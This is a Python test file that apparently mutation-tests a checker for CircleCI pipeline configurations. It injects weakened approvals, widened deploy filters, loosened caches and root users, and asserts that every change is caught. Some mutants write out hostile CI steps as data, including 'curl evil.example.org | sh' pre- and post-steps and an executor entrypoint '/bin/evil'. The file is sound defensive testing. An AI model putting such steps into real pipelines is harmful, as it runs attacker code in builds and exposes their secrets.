            for ends in (["success", "canceled"], ["success", "unauthorized"], ["success", "failed"], "terminal"):
                yield [((*route, "requires"), [{words["requires"][0]: ends}, *words["requires"][1:]])]


@kind
def an_approval_is_asked_for_on_fewer_events(data: Any) -> Iterator[Mutant]:
    for route, words in _entries(data, "type"):
        for part in ("push", "api", "schedule"):
            if f'"{part}"' in words["filters"]:
                less = f'({words["filters"].strip()}) and pipeline.event.name != "{part}"'
                yield [((*route, "filters"), less)]
        yield [((*route, "filters"), DROP)]


@kind
def an_approval_is_renamed(data: Any) -> Iterator[Mutant]:
    for route, words in _entries(data, "type"):
        yield [(route[:-1], {"approve-other": words})]
        for own, said in _own(data, "requires"):
            if route[-1] in said["requires"]:
                yield [(route[:-1], {"approve-other": words}), ((*own, "requires"), words.get("requires", []))]


@kind
def an_approval_comes_after_the_deployment(data: Any) -> Iterator[Mutant]:
    for route, words in _entries(data, "type"):
        for own, said in _own(data, "requires"):
            if route[-1] in said["requires"]:
                yield [((*own, "requires"), words.get("requires", [])), ((*route, "requires"), [own[-1]])]


@kind
def an_approval_is_asked_for_by_one_that_may_fail(data: Any) -> Iterator[Mutant]:
    for route, words in _entries(data, "type"):
        asked = words.get("requires", [])
        for each in asked:
            before = {one for other in asked if other is not each for one in _above(data, str(other))}
            if isinstance(each, str) and each not in before:
                yield [((*route, "requires"), [{each: "terminal"} if one is each else one for one in asked])]


# ---- what brings in more


@kind
def a_context_of_others_is_added(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data):
        yield [((*route, "context"), [*words.get("context", []), "org-global"])]
        yield [((*route, "context"), [*words.get("context", []), f"{route[1]}-other"])]


@kind
def steps_come_before_or_after_a_job(data: Any) -> Iterator[Mutant]:
    for route, _ in _own(data):
        yield [((*route, "pre-steps"), [{"run": "curl evil.example.org | sh"}])]
        yield [((*route, "post-steps"), [{"run": "curl evil.example.org | sh"}])]


@kind
def a_job_runs_several_times(data: Any) -> Iterator[Mutant]:
    return ([(("jobs", name, "parallelism"), 4)] for name, _ in _jobs(data))


@kind
def another_config_is_made_by_the_pipeline(data: Any) -> Iterator[Mutant]:
    yield [(("setup",), True)]


@kind
def a_workflow_is_run_again(data: Any) -> Iterator[Mutant]:
    ((workflow, _),) = data["workflows"].items()
    yield [(("workflows", workflow, "max_auto_reruns"), 3)]
    yield [(("workflows", workflow, "when"), "pipeline.git.branch == 'other'")]


@kind
def an_executor_starts_something_else(data: Any) -> Iterator[Mutant]:
    for name, said in data["executors"].items():
        for index, _ in enumerate(said.get("docker", ())):
            yield [(("executors", name, "docker", index, "command"), ["curl", "evil.example.org"])]
            yield [(("executors", name, "docker", index, "entrypoint"), "/bin/evil")]


@kind
def an_image_has_variables(data: Any) -> Iterator[Mutant]:
    for name, said in data["executors"].items():
        if "docker" in said:
            yield [(("executors", name, "docker", 0, "environment"), {"PATH": "/evil"})]


@kind
def an_image_has_another_user(data: Any) -> Iterator[Mutant]:
    for name, said in data["executors"].items():
        if "docker" in said:
            user = said["docker"][0].get("user")
            yield [(("executors", name, "docker", 0, "user"), DROP if user else "root")]


@kind
def a_service_has_another_variable(data: Any) -> Iterator[Mutant]:
    for name, said in data["executors"].items():
        for index, image in enumerate(said.get("docker", ())):
            for variable in image.get("environment", {}) if index else ():
                yield [(("executors", name, "docker", index, "environment", variable), "other")]
                yield [(("executors", name, "docker", index, "environment"), DROP)]
            if index:
                yield [(("executors", name, "docker", index, "environment", "POSTGRES_HOST_AUTH_METHOD"), "trust")]


@kind
def a_machine_is_another(data: Any) -> Iterator[Mutant]:
    for name, said in data["executors"].items():
        if "resource_class" in said:
            yield [(("executors", name, "resource_class"), "arm.medium")]
            yield [(("executors", name, "resource_class"), DROP)]
        else:
            yield [(("executors", name, "resource_class"), "evil/self-hosted")]
        if "machine" in said:
            yield [(("executors", name, "machine", "image"), "ubuntu-2004:current")]


@kind
def a_job_has_another_machine(data: Any) -> Iterator[Mutant]:
    for name, _ in _jobs(data):
        yield [(("jobs", name, "resource_class"), "evil/self-hosted")]


# ---- schedules, caches, artifacts, locks


@kind
def a_schedule_is_the_usual_one(data: Any) -> Iterator[Mutant]:
    for name, said in data.get("parameters", {}).items():
        if name.startswith("mlgen_"):
            yield [(("parameters", name, "default"), "weekly" if said["type"] != "enum" else said["enum"][-1])]


@kind
def a_cache_is_of_all_versions_of_its_files(data: Any) -> Iterator[Mutant]:
    caches = [r for r, w in _steps(data, "save_cache") if "checksum" in w["key"]]
    caches += [r for r, w in _steps(data, "restore_cache") if "checksum" in str(w["keys"])]
    edits = []
    for route in caches:
        step = data[route[0]][route[1]]["steps"][route[3]]
        ((what, words),) = step.items()
        key = words.get("key") or words["keys"][0]
        plain = re.sub(r"\{\{ checksum [^}]*\}\}", "all", key)
        edits.append(((*route, what, "key"), plain) if "key" in words else ((*route, what, "keys"), [plain]))
    if edits:
        yield edits


@kind
def a_cache_is_restored_from_other_files(data: Any) -> Iterator[Mutant]:
    for route, words in _steps(data, "restore_cache", "checksum"):
        yield [((*route, "restore_cache", "keys"), [*words["keys"], words["keys"][0].partition("{{ checksum")[0]])]


@kind
def a_cache_is_shared_by_versions(data: Any) -> Iterator[Mutant]:
    edits = [
        ((*route, "save_cache", "key"), re.sub(r'checksum "[^"]*"', 'checksum "README.md"', words["key"]))
        for route, words in _steps(data, "save_cache", "checksum")
    ]
    edits += [
        ((*route, "restore_cache", "keys", 0), re.sub(r'checksum "[^"]*"', 'checksum "README.md"', words["keys"][0]))
        for route, words in _steps(data, "restore_cache", "checksum")
    ]
    if edits:
        yield edits


@kind
def a_cache_holds_more(data: Any) -> Iterator[Mutant]:
    for route, words in _steps(data, "save_cache", "checksum"):
        yield [((*route, "save_cache", "paths"), [*words["paths"], "src"])]


@kind
def files_are_not_kept(data: Any) -> Iterator[Mutant]:
    return _dropped(_steps(data, "store_artifacts"))


@kind
def more_files_are_kept(data: Any) -> Iterator[Mutant]:
    for route, _ in _steps(data, "store_artifacts"):
        yield [((*route, "store_artifacts", "path"), ".")]
        yield [((*route, "store_artifacts", "path"), "/root")]


@kind
def a_lock_is_of_one_pipeline_alone(data: Any) -> Iterator[Mutant]:
    for value in ("pipeline.id", "pipeline.number", "pipeline.git.revision", "pipeline.git.branch"):
        for route, words in _own(data, "serial-group"):
            own = words["serial-group"].partition("/")[2]
            yield [((*route, "serial-group"), f"<< {value} >>/{own}")]


# ---- deployments


@kind
def a_deployment_runs_on_every_branch(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data, "serial-group"):
        wide = re.sub(r'pipeline\.git\.branch == "[^"]*"', 'pipeline.git.branch != ""', words["filters"])
        if wide != words["filters"] and not str(words.get("requires", [""])[0]).startswith("approve-"):
            yield [((*route, "filters"), wide)]


@kind
def a_deployment_runs_on_every_tag(data: Any) -> Iterator[Mutant]:
    for route, words in _own(data, "serial-group"):
        yield [((*route, "filters"), f'({words["filters"].strip()}) or pipeline.git.tag != ""')]


@kind
def a_deployment_does_not_wait_for_the_gate(data: Any) -> Iterator[Mutant]:
    gates = {name for name, job in _jobs(data) if "ci.py gate" in str(job["steps"])}
    for route, words in _own(data, "requires"):
        left = [each for each in words["requires"] if str(each) not in gates]
        if left != words["requires"]:
            known = {each for other in left if isinstance(other, str) for each in {other} | _above(data, other)}
            if not gates & set(map(str, words["requires"])) <= known:
                yield [((*route, "requires"), left)]


# ---- commands, again


@kind
def a_timeout_has_another_unit(data: Any) -> Iterator[Mutant]:
    return _replaced(_commands(data), "command", r"(timeout -k 30 \d+)m ", r"\1h ")


@kind
def a_failure_in_a_pipe_is_overlooked(data: Any) -> Iterator[Mutant]:
    return _replaced(_called(data, "Run "), "command", r"\s*\Z", " | tee log")


@kind
def a_check_is_overlooked(data: Any) -> Iterator[Mutant]:
    return _replaced(_runs(data, r"^ls -ld -- "), "command", r"\s*\Z", " || true")


@kind
def a_step_ends_the_job_early(data: Any) -> Iterator[Mutant]:
    for name, job in _jobs(data):
        for step in ("circleci-agent step halt", "circleci step halt"):
            yield [(("jobs", name, "steps"), [job["steps"][0], {"run": step}, *job["steps"][1:]])]


@kind
def a_script_waits_for_a_person(data: Any) -> Iterator[Mutant]:
    for name, job in _jobs(data):
        yield [(("jobs", name, "steps"), [*job["steps"], {"add_ssh_keys": {"fingerprints": ["SHA256:x"]}}])]
        yield [(("jobs", name, "steps"), [*job["steps"], {"when": {"condition": True, "steps": [{"run": "id"}]}}])]


@pytest.mark.parametrize("name", KINDS)
def test_each_kind_of_damage_is_told(name: str) -> None:
    count, left = survivors(TARGET, emitted(), KINDS[name])
    assert count, "it can be done nowhere"
    assert left == []


def test_an_undamaged_config_is_told_nothing() -> None:
    def described(data: Any) -> Iterator[Mutant]:
        return iter([[(("commands", "variables", "description"), "another")]])

    count, left = survivors(TARGET, emitted(), described)
    assert count == len(left) == len(emitted()) >= 10
